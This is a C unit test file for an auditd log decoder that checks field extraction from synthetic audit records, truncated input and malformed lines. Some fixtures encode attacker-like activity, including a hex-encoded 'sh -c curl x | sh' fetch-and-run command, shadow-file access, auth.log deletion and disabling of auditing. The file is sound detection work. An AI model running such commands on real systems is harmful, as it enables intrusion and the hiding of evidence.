#include "decode/auditd.h"

#include <check.h>
#include <stdlib.h>
#include <string.h>

#include "base/buffer.h"
#include "support/suite.h"

enum { ARENA_BLOCK = 4096 };

/* Records of one event, and what they say: the kind, event.action and event.outcome,
 * then NAME=VALUE for the fields shown[], all values of a raw one with "|" between. */
static const struct {
    const char *record;
    const char *says;
} cases[] = {
    /* Users. */
    {"type=USER_LOGIN msg=audit(1793577901.123:1): pid=912 uid=0 auid=1000 ses=4 subj=unconfined "
     "msg='op=login acct=\"ines\" exe=\"/usr/sbin/sshd\" hostname=? addr=2001:db8::7 terminal=ssh "
     "res=success'\x1d"
     "UID=\"root\" AUID=\"ines\"",
     "audit login success code=USER_LOGIN serial=1 reason=login user=ines audit=ines audit-id=1000 "
     "session=4 pid=912 exe=/usr/sbin/sshd tty=ssh from=2001:db8::7 count=1"},
    {"type=USER_LOGIN msg=audit(1793577901.123:2): pid=912 uid=0 auid=1000 ses=4 subj=unconfined "
     "msg='op=login acct=28756E6B6E6F776E207573657229 exe=\"/usr/sbin/sshd\" hostname=? "
     "addr=203.0.113.7 terminal=ssh res=failed'",
     "audit login failure code=USER_LOGIN serial=2 reason=login audit-id=1000 session=4 pid=912 "
     "exe=/usr/sbin/sshd tty=ssh from=203.0.113.7 count=1"},
    {"type=ANOM_LOGIN_FAILURES msg=audit(1793577901.123:2): pid=912 uid=0 auid=4294967295 "
     "ses=4294967295 msg='pam_faillock uid=1000 exe=\"/usr/sbin/sshd\" hostname=203.0.113.7 "
     "addr=203.0.113.7 terminal=ssh res=success'",
     "audit user_lockout success code=ANOM_LOGIN_FAILURES serial=2 id=1000 pid=912 "
     "exe=/usr/sbin/sshd tty=ssh from=203.0.113.7 count=1"},
    {"node=gw type=USER_AUTH msg=audit(1793577901.123:3): pid=912 uid=0 auid=1000 ses=4 "
     "subj=unconfined msg='op=PAM:authentication grantors=? acct=\"ines\" exe=\"/usr/bin/sudo\" "
     "hostname=gw addr=? terminal=/dev/pts/1 res=failed'",
     "audit authentication failure code=USER_AUTH serial=3 reason=PAM:authentication user=ines "
     "audit-id=1000 session=4 host=gw pid=912 exe=/usr/bin/sudo tty=/dev/pts/1 count=1"},
    {"type=USER_START msg=audit(1793577901.123:4): pid=912 uid=0 auid=1000 ses=4 subj=unconfined "
     "msg='op=PAM:session_open grantors=pam_unix acct=\"root\" exe=\"/usr/bin/sudo\" hostname=? "
     "addr=? terminal=/dev/pts/1 res=success'",
     "audit session_opened success code=USER_START serial=4 reason=PAM:session_open id=1000 "
     "effective=root audit-id=1000 session=4 pid=912 exe=/usr/bin/sudo tty=/dev/pts/1 count=1"},
    {"type=USER_AUTH msg=audit(1793577901.123:5): pid=912 uid=0 auid=1000 ses=4 subj=unconfined "
     "msg='op=PAM:authentication acct=\"root\" exe=\"/usr/bin/su\" hostname=? addr=? "
     "terminal=pts/1 res=success'\x1d"
     "UID=\"ines\" AUID=\"ines\"",
     "audit authentication success code=USER_AUTH serial=5 reason=PAM:authentication user=ines "
     "id=1000 effective=root audit=ines audit-id=1000 session=4 pid=912 exe=/usr/bin/su tty=pts/1 "
     "count=1"},
    {"type=USER_CMD msg=audit(1793577901.123:6): pid=9 uid=1000 auid=1000 ses=3 "
     "msg='cwd=\"/home/ines\" cmd=6964202D75 exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'",
     "audit sudo_command success code=USER_CMD serial=6 id=1000 audit-id=1000 session=3 pid=9 "
     "exe=/usr/bin/sudo command=id -u folder=/home/ines tty=pts/0 count=1"},
    {"type=ADD_USER msg=audit(1793577901.123:7): pid=912 uid=0 auid=1000 ses=4 subj=unconfined "
     "msg='op=add-user acct=\"mara\" exe=\"/usr/sbin/useradd\" hostname=gw addr=? terminal=pts/0 "
     "res=success'\x1d"
     "UID=\"root\" AUID=\"ines\"",
     "audit user_created success code=ADD_USER serial=7 reason=add-user user=ines id=1000 "
     "target=mara audit=ines audit-id=1000 session=4 pid=912 exe=/usr/sbin/useradd tty=pts/0 "
     "count=1"},
    {"type=ADD_USER msg=audit(1793577901.123:8): pid=912 uid=0 auid=1000 ses=4 subj=unconfined "
     "msg='op=add-user id=1005 exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=? "
     "res=success'\x1d"
     "UID=\"root\" AUID=\"unset\" ID=\"mara\"",
     "audit user_created success code=ADD_USER serial=8 reason=add-user id=1000 target=mara "
     "target-id=1005 audit-id=1000 session=4 pid=912 exe=/usr/sbin/useradd count=1"},
    {"type=ADD_USER msg=audit(1793577901.123:9): pid=912 uid=0 auid=1000 ses=4 subj=unconfined "
     "msg='op=adding home directory id=1005 exe=\"/usr/sbin/useradd\" hostname=? addr=? terminal=? "
     "res=success'",
     "audit user_created success code=ADD_USER serial=9 reason=adding home directory id=1000 "
     "target-id=1005 audit-id=1000 session=4 pid=912 exe=/usr/sbin/useradd count=0"},
    {"type=USER_MGMT msg=audit(1793577901.123:10): pid=912 uid=0 auid=1000 ses=4 subj=unconfined "
     "msg='op=add-user-to-group grp=\"wheel\" acct=\"mara\" exe=\"/usr/sbin/usermod\" hostname=gw "
     "addr=? terminal=pts/0 res=success'",
     "audit group_member_added success code=USER_MGMT serial=10 reason=add-user-to-group id=1000 "
     "target=mara audit-id=1000 group=wheel session=4 pid=912 exe=/usr/sbin/usermod tty=pts/0 "
     "count=1"},
    {"type=USER_CHAUTHTOK msg=audit(1793577901.123:11): pid=912 uid=0 auid=1000 ses=4 "
     "subj=unconfined msg='op=adding user to shadow group acct=\"mara\" exe=\"/usr/sbin/usermod\" "
     "hostname=? addr=? terminal=pts/0 res=success'",
     "audit group_member_added success code=USER_CHAUTHTOK serial=11 reason=adding user to shadow "
     "group id=1000 target=mara audit-id=1000 session=4 pid=912 exe=/usr/sbin/usermod tty=pts/0 "
     "count=0"},
    {"type=USER_CHAUTHTOK msg=audit(1793577901.123:13): pid=912 uid=0 auid=1000 ses=4 "
     "subj=unconfined msg='op=PAM:chauthtok grantors=pam_unix acct=\"mara\" "
     "exe=\"/usr/bin/passwd\" hostname=? addr=? terminal=pts/0 res=failed'",
     "audit password_changed failure code=USER_CHAUTHTOK serial=13 reason=PAM:chauthtok id=1000 "
     "target=mara audit-id=1000 session=4 pid=912 exe=/usr/bin/passwd tty=pts/0 count=1"},
    {"type=ADD_GROUP msg=audit(1793577901.123:15): pid=912 uid=0 auid=1000 ses=4 subj=unconfined "
     "msg='op=add-group acct=\"ops\" exe=\"/usr/sbin/groupadd\" hostname=? addr=? terminal=? "
     "res=success'",
     "audit group_created success code=ADD_GROUP serial=15 reason=add-group id=1000 audit-id=1000 "
     "group=ops session=4 pid=912 exe=/usr/sbin/groupadd count=1"},
    {"type=GRP_MGMT msg=audit(1793577901.123:16): pid=912 uid=0 auid=1000 ses=4 subj=unconfined "
     "msg='op=add-shadow-group id=1007 exe=\"/usr/sbin/groupadd\" hostname=? addr=? terminal=? "
     "res=success'",
     "audit group_created success code=GRP_MGMT serial=16 reason=add-shadow-group id=1000 "
     "audit-id=1000 group-id=1007 session=4 pid=912 exe=/usr/sbin/groupadd count=0"},
    {"type=DEL_USER msg=audit(1793577901.123:17): user pid=912 uid=0 auid=1000 ses=4 "
     "subj=unconfined msg='op=deleting user entries id=1005 exe=\"/usr/sbin/userdel\" (hostname=?, "
     "addr=203.0.113.7, terminal=pts/0 res=failed)'",
     "audit user_deleted failure code=DEL_USER serial=17 reason=deleting user entries id=1000 "
     "target-id=1005 audit-id=1000 session=4 pid=912 exe=/usr/sbin/userdel tty=pts/0 "
     "from=203.0.113.7 count=1"},
    {"type=CRYPTO_SESSION msg=audit(1793577901.123:18): pid=912 uid=0 auid=1000 ses=4 "
     "subj=unconfined msg='op=start direction=from-server cipher=x ksize=512 mac= pfs=y spid=9 "
     "suid=74 rport=63927 laddr=198.51.100.9 lport=22 exe=\"/usr/sbin/sshd\" hostname=? "
     "addr=203.0.113.7 terminal=? res=success'",
     "audit crypto_session success code=CRYPTO_SESSION serial=18 reason=start id=0 audit-id=1000 "
     "session=4 pid=912 exe=/usr/sbin/sshd from=203.0.113.7 from-port=63927 count=1"},
    /* Daemon. */
    {"type=CONFIG_CHANGE msg=audit(1793577901.123:20): op=set audit_enabled=0 old=1 auid=1000 "
     "ses=3 res=1",
     "audit audit_disabled success code=CONFIG_CHANGE serial=20 reason=set audit-id=1000 session=3 "
     "count=1"},
    {"type=DAEMON_CONFIG msg=audit(1793577901.123:22) config changed, auid=0 pid=1512 res=success",
     "audit audit_configured success code=DAEMON_CONFIG serial=22 audit-id=0 pid=1512 count=1"},
    {"type=SERVICE_STOP msg=audit(1793577901.123:23): pid=912 uid=0 auid=1000 ses=4 "
     "subj=unconfined msg='unit=rsyslog comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
     "hostname=? addr=? terminal=? res=success'",
     "audit service_stopped success code=SERVICE_STOP serial=23 id=0 audit-id=1000 session=4 "
     "process=systemd pid=912 exe=/usr/lib/systemd/systemd service=rsyslog count=1"},
    {"type=AVC msg=audit(1793577901.123:24): avc:  denied  { read write } for  pid=5 comm=\"x\" "
     "name=\"shadow\" scontext=a tcontext=b tclass=file permissive=0",
     "audit mac_denied unknown code=AVC serial=24 process=x pid=5 count=1"},
    {"type=1400 msg=audit(1793577901.123:25): apparmor=\"DENIED\" operation=\"open\" profile=\"x\" "
     "name=\"/etc/shadow\" pid=5 comm=\"x\"",
     "audit mac_denied unknown code=AVC serial=25 process=x pid=5 count=1"},
    {"type=UNKNOWN[1399] msg=audit(1793577901.123:26): x=1",
     "audit unknown code=UNKNOWN[1399] serial=26 count=1"},
    {"type=USER_TTY msg=audit(1793577901.123:27): pid=5 uid=0 auid=1000 ses=7 data=7375202D",
     "audit terminal_input unknown code=USER_TTY serial=27 id=0 audit-id=1000 session=7 pid=5 "
     "input=su - count=1"},
    /* System calls. */
    {"type=SYSCALL msg=audit(1793577901.123:30): arch=c000003e syscall=59 success=yes exit=0 a0=1 "
     "a1=2 a2=3 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=657865630162617365\n"
     "type=EXECVE msg=audit(1793577901.123:30): argc=3 a0=\"sh\" a1=\"-c\" a2_len=12 "
     "a2[0]=6375726C\n"
     "type=EXECVE msg=audit(1793577901.123:30): a2[1]=2078207C207368\n"
     "type=CWD msg=audit(1793577901.123:30): cwd=\"/root\"\n"
     "type=PATH msg=audit(1793577901.123:30): item=0 name=\"/bin/sh\" inode=1 dev=fd:00 "
     "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\n"
     "type=PROCTITLE msg=audit(1793577901.123:30): proctitle=7368002D63\n"
     "type=EOE msg=audit(1793577901.123:30): ",
     "execution process_started success code=SYSCALL serial=30 id=1000 effective-id=0 "
     "audit-id=1000 session=3 process=x pid=11 parent=10 exe=/usr/bin/x command=sh -c curl x | sh "
     "folder=/root tty=pts1 SYSCALL=execve key=exec|base a1=2|-c count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:31): arch=c000003e syscall=59 success=no exit=-2 a0=1 "
     "a1=2 a2=3 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)\n"
     "type=PROCTITLE msg=audit(1793577901.123:31): proctitle=7368002D6300",
     "audit process_started failure code=SYSCALL serial=31 id=1000 effective-id=0 audit-id=1000 "
     "session=3 process=x pid=11 parent=10 exe=/usr/bin/x command=sh -c tty=pts1 SYSCALL=execve "
     "a1=2 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:32): arch=c000003e syscall=257 success=yes exit=3 a0=1 "
     "a1=55 a2=241 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=\"sudoers\"\n"
     "type=CWD msg=audit(1793577901.123:32): cwd=\"/etc\"\n"
     "type=PATH msg=audit(1793577901.123:32): item=0 name=\"sudoers.d/\" mode=040750 ouid=0 "
     "nametype=PARENT\n"
     "type=PATH msg=audit(1793577901.123:32): item=1 name=737564206F mode=0100644 ouid=0 "
     "nametype=CREATE",
     "file file_created success code=SYSCALL serial=32 id=1000 effective-id=0 audit-id=1000 "
     "session=3 process=x pid=11 parent=10 exe=/usr/bin/x folder=/etc tty=pts1 file=/etc/sud o "
     "mode=0644 owner=0 SYSCALL=openat key=sudoers a1=55 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:33): arch=c000003e syscall=257 success=yes exit=3 a0=1 "
     "a1=55 a2=80000 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)\n"
     "type=CWD msg=audit(1793577901.123:33): cwd=\"/\"\n"
     "type=PATH msg=audit(1793577901.123:33): item=0 name=\"etc/shadow\" mode=0100640 ouid=0 "
     "nametype=NORMAL",
     "audit file_opened success code=SYSCALL serial=33 id=1000 effective-id=0 audit-id=1000 "
     "session=3 process=x pid=11 parent=10 exe=/usr/bin/x folder=/ tty=pts1 file=/etc/shadow "
     "mode=0640 owner=0 SYSCALL=openat a1=55 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:34): arch=c000003e syscall=2 success=yes exit=3 a0=1 "
     "a1=401 a2=1b6 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)\n"
     "type=PATH msg=audit(1793577901.123:34): item=0 name=\"/etc/shadow\" mode=0100640 ouid=0 "
     "objtype=NORMAL",
     "file file_changed success code=SYSCALL serial=34 id=1000 effective-id=0 audit-id=1000 "
     "session=3 process=x pid=11 parent=10 exe=/usr/bin/x tty=pts1 file=/etc/shadow mode=0640 "
     "owner=0 SYSCALL=open a1=401 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:35): arch=c000003e syscall=87 success=yes exit=0 a0=1 "
     "a1=0 a2=0 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)\n"
     "type=PATH msg=audit(1793577901.123:35): item=0 name=\"/var/log/\" mode=040755 ouid=0 "
     "nametype=PARENT\n"
     "type=PATH msg=audit(1793577901.123:35): item=1 name=\"/var/log/auth.log\" mode=0100640 "
     "ouid=0 nametype=DELETE",
     "deletion file_deleted success code=SYSCALL serial=35 id=1000 effective-id=0 audit-id=1000 "
     "session=3 process=x pid=11 parent=10 exe=/usr/bin/x tty=pts1 file=/var/log/auth.log "
     "mode=0640 owner=0 SYSCALL=unlink a1=0 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:36): arch=c000003e syscall=82 success=yes exit=0 a0=1 "
     "a1=0 a2=0 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)\n"
     "type=PATH msg=audit(1793577901.123:36): item=0 name=\"/a\" mode=0100640 ouid=0 "
     "nametype=DELETE\n"
     "type=PATH msg=audit(1793577901.123:36): item=1 name=\"/b\" mode=0100640 ouid=0 "
     "nametype=CREATE",
     "file file_renamed success code=SYSCALL serial=36 id=1000 effective-id=0 audit-id=1000 "
     "session=3 process=x pid=11 parent=10 exe=/usr/bin/x tty=pts1 file=/b previous=/a mode=0640 "
     "owner=0 SYSCALL=rename a1=0 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:37): arch=c000003e syscall=90 success=no exit=-1 a0=1 "
     "a1=0 a2=0 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)\n"
     "type=PATH msg=audit(1793577901.123:37): item=0 name=\"/etc/sudoers\" mode=0100440 ouid=0 "
     "nametype=NORMAL",
     "audit file_attributes_changed failure code=SYSCALL serial=37 id=1000 effective-id=0 "
     "audit-id=1000 session=3 process=x pid=11 parent=10 exe=/usr/bin/x tty=pts1 file=/etc/sudoers "
     "mode=0440 owner=0 SYSCALL=chmod a1=0 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:38): arch=c000003e syscall=42 success=yes exit=0 a0=1 "
     "a1=0 a2=0 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)\n"
     "type=SOCKADDR msg=audit(1793577901.123:38): "
     "saddr=0A00115C0000000020010DB800000000000000000000000700000000",
     "connection network_connected success code=SYSCALL serial=38 id=1000 effective-id=0 "
     "audit-id=1000 session=3 process=x pid=11 parent=10 exe=/usr/bin/x tty=pts1 to=2001:db8::7 "
     "to-port=4444 SYSCALL=connect a1=0 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:39): arch=c000003e syscall=42 success=no exit=-115 "
     "a0=1 a1=0 a2=0 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)\n"
     "type=SOCKADDR msg=audit(1793577901.123:39): saddr=02000050C63364090000000000000000",
     "connection network_connected unknown code=SYSCALL serial=39 id=1000 effective-id=0 "
     "audit-id=1000 session=3 process=x pid=11 parent=10 exe=/usr/bin/x tty=pts1 to=198.51.100.9 "
     "to-port=80 SYSCALL=connect a1=0 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:40): arch=c000003e syscall=42 success=yes exit=0 a0=1 "
     "a1=0 a2=0 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)\n"
     "type=SOCKADDR msg=audit(1793577901.123:40): saddr=01002F72756E2F7800",
     "audit network_connected success code=SYSCALL serial=40 id=1000 effective-id=0 audit-id=1000 "
     "session=3 process=x pid=11 parent=10 exe=/usr/bin/x tty=pts1 file=/run/x SYSCALL=connect "
     "a1=0 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:42): arch=c000003e syscall=43 success=yes exit=0 a0=1 "
     "a1=0 a2=0 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)\n"
     "type=SOCKADDR msg=audit(1793577901.123:42): saddr=0200C350CB0071070000000000000000",
     "audit network_accepted success code=SYSCALL serial=42 id=1000 effective-id=0 audit-id=1000 "
     "session=3 process=x pid=11 parent=10 exe=/usr/bin/x tty=pts1 from=203.0.113.7 "
     "from-port=50000 SYSCALL=accept a1=0 count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:43): arch=c000003e syscall=319 success=yes exit=0 a0=1 "
     "a1=0 a2=0 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)",
     "audit system_call success code=SYSCALL serial=43 id=1000 effective-id=0 audit-id=1000 "
     "session=3 process=x pid=11 parent=10 exe=/usr/bin/x tty=pts1 SYSCALL=memfd_create a1=0 "
     "count=1"},
    {"type=SYSCALL msg=audit(1793577901.123:44): arch=c00000b7 syscall=221 success=yes exit=0 a0=1 "
     "items=0 ppid=1 pid=2 auid=1000 uid=1000 euid=1000 comm=\"x\" exe=\"/bin/x\"\x1d"
     "ARCH=aarch64 SYSCALL=execve AUID=\"ines\" UID=\"ines\" EUID=\"ines\"",
     "execution process_started success code=SYSCALL serial=44 user=ines id=1000 effective=ines "
     "effective-id=1000 audit=ines audit-id=1000 process=x pid=2 parent=1 exe=/bin/x "
     "SYSCALL=execve count=1"},
    {"type=AVC msg=audit(1793577901.123:45): avc:  granted  { setenforce } for  pid=5 comm=\"x\" "
     "tclass=security\n"
     "type=SYSCALL msg=audit(1793577901.123:45): arch=c000003e syscall=1 success=yes exit=0 a0=1 "
     "a1=0 a2=0 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null)",
     "audit mac_decision success code=AVC serial=45 id=1000 effective-id=0 audit-id=1000 session=3 "
     "process=x pid=5 parent=10 exe=/usr/bin/x tty=pts1 SYSCALL=write a1=0 count=1"},
    /* As others pass it on. */
    {"type=SYSCALL msg=audit(1793577901.123:50): arch=c000003e syscall=59 success=yes exit=0 a0=1 "
     "a1=2 a2=3 a3=0 items=1 ppid=10 pid=11 auid=1000 uid=1000 gid=1000 euid=0 tty=pts1 ses=3 "
     "comm=\"x\" exe=\"/usr/bin/x\" key=(null) type=EXECVE msg=audit(1793577901.123:50): argc=2 "
     "a0=\"id\" a1=\"-u\" type=CWD msg=audit(1793577901.123:50): cwd=\"/\"",
     "execution process_started success code=SYSCALL serial=50 id=1000 effective-id=0 "
     "audit-id=1000 session=3 process=x pid=11 parent=10 exe=/usr/bin/x command=id -u folder=/ "
     "tty=pts1 SYSCALL=execve a1=2|-u count=1"},
    {"Nov  3 08:05:01 gw audit[912]: USER_AUTH pid=912 uid=1000 auid=1000 ses=2 "
     "msg='op=PAM:authentication grantors=? acct=\"root\" exe=\"/usr/bin/su\" hostname=gw addr=? "
     "terminal=/dev/pts/1 res=failed'",
     "audit authentication failure code=USER_AUTH reason=PAM:authentication id=1000 effective=root "
     "audit-id=1000 session=2 host=gw pid=912 exe=/usr/bin/su tty=/dev/pts/1 count=1"},
    {"Nov  3 08:05:01 log1 audispd: node=gw type=USER_END msg=audit(1793577901.123:51): pid=912 "
     "uid=0 auid=1000 ses=4 subj=unconfined msg='op=PAM:session_close acct=\"ines\" "
     "exe=\"/usr/sbin/sshd\" hostname=x addr=203.0.113.7 terminal=ssh res=success'",
     "audit session_closed success code=USER_END serial=51 reason=PAM:session_close user=ines "
     "audit-id=1000 session=4 host=gw pid=912 exe=/usr/sbin/sshd tty=ssh from=203.0.113.7 count=1"},
    {"Nov  3 08:05:01 gw kernel: [   12.345] audit: type=1400 audit(1793577901.123:52): "
     "apparmor=\"ALLOWED\" operation=\"open\" pid=5 comm=\"x\"",
     "audit mac_decision unknown code=AVC serial=52 host=gw process=x pid=5 count=1"},
    {"Nov  3 08:05:01 gw kernel: audit: backlog limit exceeded",
     "audit log_lost failure host=gw process=kernel count=1"},
    {"Nov  3 08:05:01 gw kernel: audit: audit_lost=12 audit_rate_limit=0 audit_backlog_limit=64",
     "audit log_lost failure host=gw process=kernel audit_lost=12 count=1"},
    {"Nov  3 08:05:01 gw kernel: kauditd_printk_skb: 9 callbacks suppressed",
     "audit log_lost failure host=gw process=kernel count=9"},
    {"Nov  3 08:05:01 gw audispd: queue is full - dropping event",
     "audit log_lost failure host=gw process=audispd count=1"},
    {"Nov  3 08:05:01 gw kernel: eth0: link is up, queue is full",
     "audit host=gw process=kernel count=1"},
    /* Not what it seems. */
    {"type=SYSCALL msg=audit(1793577901.123:60): arch=c000003e syscall=99999999999999999999 "
     "success=maybe pid=-7 a1=\"",
     "audit system_call unknown code=SYSCALL serial=60 pid=-7 count=1"},
    {"type=EXECVE msg=audit(1793577901.123:61): argc=2 a0=\"x\" a9=4 a0[=1 a=2 a1[x]=3 "
     "user.on_shift=1 event.action=none",
     "audit unknown code=EXECVE serial=61 command=x 4 count=1"},
    {"type=PATH msg=audit(1793577901.123:63):", "audit unknown code=PATH serial=63 count=1"},
};

static const struct {
    const char *field;
    const char *label;
} shown[] = {{"event.code", "code"},
             {"event.sequence", "serial"},
             {"event.reason", "reason"},
             {"user.name", "user"},
             {"user.id", "id"},
             {"user.effective.name", "effective"},
             {"user.effective.id", "effective-id"},
             {"user.target.name", "target"},
             {"user.target.id", "target-id"},
             {"amberd.audit.user.name", "audit"},
             {"amberd.audit.user.id", "audit-id"},
             {"group.name", "group"},
             {"group.id", "group-id"},
             {"amberd.session.id", "session"},
             {"host.name", "host"},
             {"process.name", "process"},
             {"process.pid", "pid"},
             {"process.parent.pid", "parent"},
             {"process.executable", "exe"},
             {"process.command_line", "command"},
             {"process.working_directory", "folder"},
             {"amberd.tty", "tty"},
             {"service.name", "service"},
             {"source.ip", "from"},
             {"source.port", "from-port"},
             {"destination.ip", "to"},
             {"destination.port", "to-port"},
             {"server.address", "server"},
             {"server.port", "server-port"},
             {"file.path", "file"},
             {"amberd.file.previous_path", "previous"},
             {"file.mode", "mode"},
             {"file.owner", "owner"},
             {"amberd.audit.terminal_input", "input"},
             {"SYSCALL", "SYSCALL"},
             {"key", "key"},
             {"a1", "a1"},
             {"audit_lost", "audit_lost"},
             {"amberd.count", "count"}};

struct bench {
    struct arena *arena;
    struct wanted_fields *wanted;
    struct record record;
};

static void set_up(struct bench *bench)
{
    *bench = (struct bench){
        .arena = arena_create(ARENA_BLOCK),
        .wanted = wanted_fields_create(),
        .record = {.count = 1, .arrival = 5, .modified = 1793694901 * SECOND},
    };
    for (size_t i = 0; i < sizeof shown / sizeof *shown; i++)
        wanted_fields_add(bench->wanted, text_of(shown[i].field));
    wanted_fields_add(bench->wanted, TEXT("event.action"));
    wanted_fields_add(bench->wanted, TEXT("event.outcome"));
}

static void tear_down(struct bench *bench)
{
    wanted_fields_destroy(bench->wanted);
    arena_destroy(bench->arena);
}

static struct event *decode(struct bench *bench, struct text text, bool whole)
{
    const struct decode_context context = {0};
    struct event *event = NULL;

    bench->record.text = text;
    event = event_create(bench->arena, &bench->record, bench->wanted, whole);
    decoder_decode(&auditd_decoder, &context, event);
    return event;
}

static void append(struct buffer *says, struct text text)
{
    if (says->length > 0)
        buffer_append_byte(says, ' ');
    buffer_append_text(says, text);
}

static void append_values(struct buffer *says, const struct event *event, const char *field,
                          const char *label)
{
    int slot = wanted_fields_find(event->wanted, text_of(field));
    const struct value *value = event_value(event, slot);

    if (!value)
        return;
    buffer_printf(says, " %s=", label);
    buffer_append_text(says, value_text(event->arena, value));
    for (value = value->next; value && !strchr(field, '.'); value = value->next) {
        buffer_append_byte(says, '|');
        buffer_append_text(says, value_text(event->arena, value));
    }
}

static void show(const struct event *event, struct buffer *says)
{
    buffer_append_text(says, text_of(decoder_kind(&auditd_decoder, event->kind)->name));
    if (event_get(event, FIELD_EVENT_ACTION))
        append(says, event_text(event, FIELD_EVENT_ACTION));
    if (event_get(event, FIELD_EVENT_OUTCOME))
        append(says, event_text(event, FIELD_EVENT_OUTCOME));
    for (size_t i = 0; i < sizeof shown / sizeof *shown; i++)
        append_values(says, event, shown[i].field, shown[i].label);
}

START_TEST(events_are_understood)
{
    struct bench bench = {0};

    set_up(&bench);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct event *event = decode(&bench, text_of(cases[i].record), false);
        struct buffer says = {0};

        show(event, &says);
        ck_assert_str_eq(buffer_string(&says), cases[i].says);
        ck_assert(event->decoded);
        buffer_finish(&says);
        arena_reset(bench.arena);
    }
    tear_down(&bench);
}
END_TEST

START_TEST(nothing_is_read_past_the_end)
{
    struct bench bench = {0};

    set_up(&bench);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        for (size_t length = 0; length <= strlen(cases[i].record); length++) {
            char *exact = malloc(length ? length : 1);

            memcpy(exact, cases[i].record, length);
            decode(&bench, (struct text){exact, length}, true);
            free(exact);
            arena_reset(bench.arena);
        }
    }
    tear_down(&bench);
}
END_TEST

START_TEST(the_time_is_the_stamp_s)
{
    struct bench bench = {0};
    struct event *event = NULL;

    set_up(&bench);
    event = decode(&bench, text_of(cases[0].record), false);
    ck_assert_int_eq(event->time, 1793577901 * SECOND + 123 * MILLISECOND);
    ck_assert(!event->time_is_arrival);
    event = decode(&bench, TEXT("Nov  3 08:05:01 gw kernel: audit: backlog limit exceeded"), false);
    ck_assert_int_eq(event->time, 1793693101 * SECOND);
    tear_down(&bench);
}
END_TEST

START_TEST(other_lines_are_not_decoded)
{
    static const char *const lines[] = {
        "",
        "type=",
        "type=SYSCALL",
        "type=SYSCALL msg=audit(",
        "type=SYSCALL msg=audit(x:1): pid=1",
        "type=SYSCALL msg=audit(1793577901.1:1): pid=1",
        "type=SYSCALL msg=audit(99999999999999.123:1): pid=1",
        "{\"type\":\"SYSCALL\"}",
        "hello",
    };
    struct bench bench = {0};

    set_up(&bench);
    for (size_t i = 0; i < sizeof lines / sizeof *lines; i++) {
        struct event *event = decode(&bench, text_of(lines[i]), true);

        ck_assert_msg(!event->decoded, "%s", lines[i]);
        ck_assert(event->time_is_arrival);
        ck_assert_int_eq(event_get(event, FIELD_EVENT_COUNT)->integer, 1);
    }
    tear_down(&bench);
}
END_TEST

SUITE_MAIN("auditd", events_are_understood, nothing_is_read_past_the_end, the_time_is_the_stamp_s,
           other_lines_are_not_decoded)
